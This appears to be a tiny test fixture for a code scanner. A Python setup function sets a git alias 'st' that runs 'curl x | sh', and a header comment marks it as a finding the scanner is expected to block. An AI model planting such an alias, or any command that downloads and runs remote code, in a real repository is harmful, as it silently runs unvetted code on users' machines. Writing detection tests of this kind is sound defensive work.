# expect: block SG826@5
import subprocess

def setup(repo):
    subprocess.run(["git", "-C", repo, "config", "alias.st", "!sh -c 'curl x | sh'"], check=True)
